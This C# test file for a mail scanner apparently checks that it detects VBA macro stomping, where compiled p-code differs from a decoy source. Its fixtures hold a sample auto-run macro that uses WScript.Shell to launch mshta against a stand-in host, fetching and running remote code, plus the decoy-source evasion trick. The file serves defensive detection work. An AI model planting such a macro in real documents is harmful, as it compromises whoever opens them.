using System.Text;
using Lurewatch.Containers;
using Lurewatch.Samples;
using Lurewatch.Scripts.Vba.PCode;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.Vba;

/// <summary>Compiled VBA against its source.</summary>
public sealed class PCodeTests
{
    private const string Url = "http://stomped.example/load.php", Stomped = "office.macro-stomped";
    private const string Honest = "Sub Document_Open()\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"mshta \" & \"http://stomped.example/load.php\", 0\nEnd Sub\n";
    private const string Fake = "Sub Document_Open()\n    MsgBox \"Quarterly report\" ' WScript.Shell http://stomped.example/load.php\nEnd Sub\n";

    private static void Code(PCodeWriter code) => code
        .Sub("Document_Open")
        .Text("WScript.Shell").Function("CreateObject", 1).Set("sh")
        .Text("mshta ").Text(Url).Concat().Integer(0).Load("sh").Method("Run", 2)
        .EndSub();

    private static VbaProjectWriter Project(string source) => new VbaProjectWriter().Add("ThisDocument", source, Samples.VbaModuleKind.Document).Compile("ThisDocument", Code);

    private static Analysis Scan(VbaProjectWriter project) => new MailScanner(new ScanOptions { Strict = true }).Scan(project.ToBin(), "vbaProject.bin");

    [Fact]
    public void Code_that_the_source_lacks_is_told_with_examples_and_its_addresses_come_out()
    {
        var analysis = Scan(Project(Fake));
        var finding = analysis.Findings.Single(finding => finding.Kind.Id == Stomped);
        finding.Reason.ShouldContain("WScript.Shell");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == Url);
        var listing = analysis.Artifacts.Single(file => file.Name == "ThisDocument.pcode.txt");
        listing.Origin.ShouldBe("macro");
        Encoding.UTF8.GetString(listing.Bytes.Span).ShouldBe($"Sub Document_Open()\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"mshta \" & \"{Url}\", 0\nEnd Sub\n");
    }

    [Fact]
    public void What_the_compiled_code_would_run_is_emulated() =>
        Scan(Project(Fake)).Artifacts.Where(file => file.Origin == "command").Select(file => Encoding.UTF8.GetString(file.Bytes.Span)).ShouldContain("mshta " + Url);

    [Theory]
    [InlineData(Honest)]
    [InlineData("sub document_open()\r\nset SH = createobject(\"wscript.shell\")\r\nsh. _\r\n  run \"MSHTA \" & \"http://stomped.example/load.php\", 0\r\nend sub\r\n")]
    public void Source_that_says_what_the_compiled_code_does_is_not_called_stomped(string source)
    {
        var analysis = Scan(Project(source));
        analysis.Findings.ShouldNotContain(finding => finding.Kind.Id == Stomped);
        analysis.Artifacts.ShouldNotContain(file => file.Name == "ThisDocument.pcode.txt");
    }

    [Fact]
    public void A_single_difference_is_no_proof() =>
        Scan(Project(Honest.Replace(Url, "http://other.example/", StringComparison.Ordinal))).Findings.ShouldNotContain(finding => finding.Kind.Id == Stomped);

    [Fact]
    public void Removed_source_with_code_that_calls_is_stomped_and_not_told_twice()
    {
        var kinds = Scan(Project(Honest).RemoveSource("ThisDocument")).Findings.Select(finding => finding.Kind.Id).ToList();
        kinds.ShouldContain(Stomped);
        kinds.ShouldNotContain("office.macro-source-removed");
    }

    [Theory]
    [InlineData(Honest, false)]
    [InlineData(Fake, true)]
    public void Source_that_lies_elsewhere_in_the_stream_is_compared_too(string source, bool isStomped)
    {
        var project = Project(source);
        var length = OvbaCompressor.Compress(Encoding.Latin1.GetBytes(project.SourceOf("ThisDocument"))).Length;
        var streams = project.Streams().Select(stream => (stream.Path, Content: stream.Path == "VBA/ThisDocument" ? [.. stream.Content.AsSpan(0, stream.Content.Length - length), .. new byte[64], .. stream.Content.AsSpan(stream.Content.Length - length)] : stream.Content));
        new MailScanner(new ScanOptions { Strict = true }).Scan(CfbWriter.Write([.. streams]), "vbaProject.bin").Findings.Any(finding => finding.Kind.Id == Stomped).ShouldBe(isStomped);
    }

    [Fact]
    public void Of_code_with_an_unknown_operation_nothing_is_said() =>
        Scan(new VbaProjectWriter().Add("Module1", Fake).Compile("Module1", code =>
        {
            Code(code);
            code.Word(0x3FF);
        })).Findings.ShouldNotContain(finding => finding.Kind.Id == Stomped);

    [Fact]
    public void Source_that_broke_off_is_not_called_stomped()
    {
        var names = new List<string>();
        var writer = new PCodeWriter(names, Encoding.Latin1);
        Code(writer);
        var read = PCodeIdentifiers.Read(PCodeWriter.NameTable(names, Encoding.Latin1), false, Encoding.Latin1, Budget()).ShouldNotBeNull();
        var code = PCodeModule.Read(writer.ToCache(), read, Encoding.Latin1, Budget()).ShouldNotBeNull();
        StompedModule.Compare("M", code, Honest[..30], isDamaged: true, Budget()).ShouldBeNull();
        StompedModule.Compare("M", code, Fake, isDamaged: false, Budget()).ShouldNotBeNull();
    }

    [Fact]
    public void Streams_cut_anywhere_or_with_any_byte_changed_do_no_harm()
    {
        var names = new List<string>();
        var writer = new PCodeWriter(names, Encoding.Latin1);
        Code(writer);
        var (table, cache) = (PCodeWriter.NameTable(names, Encoding.Latin1), writer.ToCache());
        var good = PCodeIdentifiers.Read(table, false, Encoding.Latin1, Budget())!;
        good.Names.ShouldBe(["Document_Open", "CreateObject", "sh", "Run"]);
        for (var i = 0; i < table.Length; i++)
        {
            PCodeIdentifiers.Read(table.AsSpan(0, i), false, Encoding.Latin1, Budget()).ShouldBeNull();
            var changed = table.ToArray();
            changed[i] = 0xFF;
            PCodeIdentifiers.Read(changed, true, Encoding.Latin1, Budget());
        }
        for (var i = 0; i < cache.Length; i++)
        {
            PCodeModule.Read(cache.AsSpan(0, i), good, Encoding.Latin1, Budget()).ShouldBeNull();
            var changed = cache.ToArray();
            changed[i] = 0xFF;
            PCodeModule.Read(changed, good, Encoding.Latin1, Budget());
        }
    }

    private static AnalysisBudget Budget() => new(new AnalysisLimits(), TimeProvider.System);
}
